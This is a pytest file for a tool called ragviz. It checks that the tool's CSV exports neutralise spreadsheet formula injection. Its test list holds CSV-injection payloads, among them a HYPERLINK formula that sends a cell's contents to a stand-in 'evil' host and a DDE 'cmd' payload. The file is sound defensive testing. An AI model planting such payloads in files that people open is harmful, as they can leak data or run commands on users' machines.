"""Issue 16: every CSV ragviz writes neutralises cells starting with = + - @, tab or CR (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd

from ragviz.cli.main import main
from ragviz.data.load import load
from ragviz.data.records import csv_cell
from ragviz.export.files import export_bytes
from ragviz.ui.compare import diff_csv

HOSTILE = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1"]


def _rows_file(tmp_path):
    path = tmp_path / "hostile.jsonl"
    rows = [
        {
            "id": ident,
            "question": "Where?",
            "documents": ["Paris is in France."],
            "response": "Paris.",
            "generation_model_name": "@model",
            "all_relevant_sentence_keys": ["0a"],
            "all_utilized_sentence_keys": ["0a"],
            "unsupported_response_sentence_keys": [],
        }
        for ident in HOSTILE
    ]
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_neutral(text: str) -> None:
    cells = _cells(text)
    for hostile in HOSTILE:
        assert "'" + hostile in cells, (hostile, cells[:20])
    assert not [c for c in cells if c[:1] in {"=", "+", "@", "\t", "\r"}]


def test_metrics_cli_csv_is_neutralised(tmp_path):
    out = tmp_path / "m.csv"
    assert main(["metrics", str(_rows_file(tmp_path)), "--format", "csv", "-o", str(out)]) == 0
    _assert_neutral(out.read_text())


def test_export_metrics_csv_is_neutralised(tmp_path):
    ds = load([_rows_file(tmp_path)]).dataset
    _assert_neutral(export_bytes(ds, None, None, "csv").decode())


def test_compare_download_is_neutralised_and_numbers_stay_numbers():
    table = pd.DataFrame({"example": HOSTILE, "Δ relevance": [-0.5] * len(HOSTILE)})
    text = diff_csv(table)
    _assert_neutral(text)
    assert "-0.5" in _cells(text)


def test_a_leading_carriage_return_is_neutralised_too():
    assert csv_cell("\r=1") == "'\r=1" and csv_cell(-3) == -3 and csv_cell(None) is None
